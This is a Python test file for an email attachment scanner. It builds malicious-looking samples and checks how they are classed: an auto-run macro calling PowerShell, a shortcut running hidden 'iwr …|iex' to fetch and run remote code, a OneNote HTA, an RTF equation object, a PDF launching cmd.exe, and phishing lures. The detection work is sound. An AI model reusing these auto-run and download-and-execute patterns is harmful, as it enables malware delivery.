"""Conjunctions about documents, and the honest documents that look like them."""

from __future__ import annotations

import io

from pypdf import PdfWriter
from tests.analyse.message.letters import OWN, codes, judged, letter
from tests.analyse.message.with_files import opened
from tests.collect.files.papers import (
    LURE,
    chinese_pdf,
    cms,
    docx,
    letter_pdf,
    lnk,
    ole,
    package,
    pdf,
    project,
)

from mailrisk.analyse.message.view import MessageView
from mailrisk.collect.files.onenote import MAGIC

DROPPER = docx(parts={"word/vbaProject.bin": ole(project('Sub AutoOpen()\nShell "powershell x"\nEnd Sub'))})
HELPFUL = docx(parts={"word/vbaProject.bin": ole(project('Sub Document_Open()\nRange("A1") = 1\nEnd Sub'))})
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
BUTTON = letter_pdf("View document", "https://docs-view.top/x", box="0 0 200 90")


def mail(sender: str, subject: str, text: str, name: str, data: bytes, **known: str) -> MessageView:
    """A letter from ``Name <address>`` with one file."""
    display, _, address = sender.rstrip(">").partition(" <")
    return opened(
        letter(display, address, subject, text, files=[(name, "application/octet-stream", data)]), **known
    )


def level(seen: MessageView) -> tuple[str, str]:
    """(level, category) of the verdict."""
    verdict = judged(seen)
    return verdict.level.value, verdict.category.value if verdict.category else ""


def test_macros_that_start_and_run_something_are_malware_when_the_mail_asks_to_open_them() -> None:
    asks = mail(
        "Anna <anna@partner.example>", "Order", "Please open the attached document.", "o.docm", DROPPER
    )
    assert level(asks) == ("malicious", "malware-file")
    silent = mail("Anna <anna@partner.example>", "Figures", "As discussed.", "o.docm", DROPPER)
    assert level(silent)[0] in ("suspicious", "malicious") and level(silent)[1] == "malware-file"
    assert judged(silent).logit < judged(asks).logit, "what is asked for weighs"


def test_macros_of_colleagues_and_macros_that_run_nothing_are_left_alone() -> None:
    known = {"dmarc": "pass", "authenticated": OWN}
    inside = mail(f"Anna <anna@{OWN}>", "Order", "Please open the document.", "o.docm", DROPPER, **known)
    helpful = mail("Anna <anna@partner.example>", "Order", "Please open the document.", "o.docm", HELPFUL)
    assert level(inside)[0] == level(helpful)[0] == "unknown"


def test_a_shortcut_that_fetches_a_program_is_malware_in_an_archive_too() -> None:
    link = lnk(f"-w hidden iwr {LURE}|iex", target=POWERSHELL)
    for name, data in (("bill.lnk", link), ("bill.zip", package({"bill.lnk": link}))):
        seen = mail("Anna <anna@partner.example>", "Bill", "Hello", name, data)
        assert "shortcut-malware" in codes(seen)
        assert level(seen) == ("malicious", "malware-file")


def test_a_onenote_section_with_a_script_is_malware() -> None:
    stored = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + (20).to_bytes(8, "little") + bytes(12)
    data = MAGIC + "open.hta".encode("utf-16-le") + b"\0\0\0\0" + stored + b"<script>x();</script"
    seen = mail("Anna <anna@partner.example>", "Notes", "Hello", "notes.one", data)
    assert "document-with-program" in codes(seen)
    assert level(seen) == ("malicious", "malware-file")


def test_rich_text_with_an_equation_object_is_malware() -> None:
    data = b"{\\rtf1{\\object{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000000000000000100000}}}"
    seen = mail("Anna <anna@partner.example>", "Order", "Hello", "order.doc", data)
    assert "exploit-document" in codes(seen)
    assert level(seen) == ("malicious", "malware-file")


def test_a_button_in_a_pdf_is_a_document_lure_in_a_brands_name() -> None:
    seen = mail(
        "HSBC Bank <a.b@gmail.com>", "Your statement", "Please open the attached document.", "s.pdf", BUTTON
    )
    assert "document-button-lure" in codes(seen)
    assert level(seen) == ("malicious", "document-lure")


def test_a_flyer_with_a_link_is_no_lure() -> None:
    flyer = letter_pdf("Summer party on the green, 8 August", "https://club.example/party", box="0 0 200 90")
    seen = mail(
        "Anna Meier <anna.meier@gmail.com>", "Summer party", "The flyer is attached. Anna", "flyer.pdf", flyer
    )
    assert level(seen)[0] == "unknown"


def test_a_locked_pdf_whose_password_stands_in_the_mail_is_read() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(BUTTON))
    writer.encrypt("4711", "owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    text = "You have money to collect. Open the attached file. Password: 4711"
    seen = mail("Tax refund <tax.refund77@gmail.com>", "Your refund", text, "refund.pdf", out.getvalue())
    assert {"opened-with-mailed-password", "document-button-lure"} <= codes(seen)
    assert level(seen) == ("malicious", "document-lure")


SUBSIDY = "关于领取2026年个人劳动补贴的通知：请各位员工点击链接，填写银行卡信息领取补贴，逾期视为放弃。"


def test_a_subsidy_lure_that_stands_only_in_a_pdf_is_judged_like_one_in_the_body() -> None:
    paper = chinese_pdf(SUBSIDY, "https://butie-lq.top/x")
    only = mail("人事部 <hr2026@163.com>", "通知", "请查收附件", "通知.pdf", paper)
    assert level(only)[0] == "malicious"
    body = opened(letter("人事部", "hr2026@163.com", "通知", f"{SUBSIDY} https://butie-lq.top/x"))
    assert level(body)[0] == "malicious"


def test_a_subsidy_lure_in_a_pdf_with_a_code_to_scan_is_judged_too() -> None:
    paper = chinese_pdf("人力资源和社会保障部：请扫描下方二维码，填写银行卡信息领取社保补贴，过期作废。")
    seen = mail(
        "社保中心 <sb2026@163.com>", "社保补贴", "见附件", "社保.pdf", paper, qr="https://sb-lq.top/a"
    )
    assert level(seen)[0] == "malicious"


def test_a_payslip_of_ones_own_personnel_department_is_left_alone() -> None:
    paper = chinese_pdf("2026年3月工资条 应发 12000 实发 9800 社保 1200 餐补 300")
    known = {"dmarc": "pass", "authenticated": OWN}
    seen = mail(
        f"人事部 <hr@{OWN}>", "3月工资条", "各位同事，3月工资条见附件。", "工资条.pdf", paper, **known
    )
    assert level(seen)[0] == "unknown"


def test_invoices_of_small_firms_are_left_alone() -> None:
    text = "Hi, please find attached the invoice. Payment is due in 14 days. Jo"
    paper = letter_pdf(
        "Invoice 12, total 300.00 EUR, payment due, bank transfer", "https://www.jo-painter.example/"
    )
    for sender in ("Jo Painter <jo.painter@gmail.com>", "Jo Painter <jo@jo-painter.example>"):
        assert level(mail(sender, "Invoice 12", text, "invoice-12.pdf", paper))[0] == "unknown"


def invitation(words: str) -> bytes:
    """A calendar file with one event."""
    return f"BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n{words}\nEND:VEVENT\nEND:VCALENDAR".encode()


def test_an_invitation_that_wants_a_login_is_phishing() -> None:
    words = "SUMMARY:Microsoft account\nDESCRIPTION:Your password expires today. Verify your account: https://m365-verify.top/login"
    seen = mail("Microsoft 365 <evt@gmail.com>", "Account", "Invitation", "invite.ics", invitation(words))
    assert "calendar-lure" in codes(seen)
    assert level(seen) == ("malicious", "credential-phishing")


def test_invitations_to_meetings_are_left_alone() -> None:
    words = "SUMMARY:Weekly\nDESCRIPTION:Join https://meet.google.com/abc"
    google = mail(
        "Google Calendar <calendar-notification@google.com>", "Invitation: Weekly", "You are invited",
        "invite.ics", invitation(words), dmarc="pass", authenticated="google.com",
    )  # fmt: skip
    partner = mail("Anna <anna@partner.example>", "Weekly", "See you there", "invite.ics", invitation(words))
    assert level(google)[0] == level(partner)[0] == "unknown"


def test_signed_mails_are_left_alone() -> None:
    inner = b"Content-Type: text/plain\n\nThe minutes of Tuesday, as agreed.\nRegards, Anna"
    for data in (cms(2, inner), cms(2)):
        assert (
            level(mail("Anna <anna@partner.example>", "Minutes", "Hello", "smime.p7s", data))[0] == "unknown"
        )


def test_a_pdf_that_launches_a_program_is_malware_when_something_is_asked() -> None:
    launch = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    )
    seen = mail("Anna <anna@partner.example>", "Order", "Please open the attached document.", "o.pdf", launch)
    assert level(seen) == ("malicious", "malware-file")


def test_a_mute_picture_to_be_clicked_from_nobody_is_suspicious() -> None:
    button = letter_pdf("", "https://docs-view.top/x", box="0 0 200 100")
    for sender, known in (("A <q@gmail.com>", "suspicious"), ("Anna <anna@partner.example>", "unknown")):
        assert level(mail(sender, "RE", ".", "p.pdf", button))[0] == known
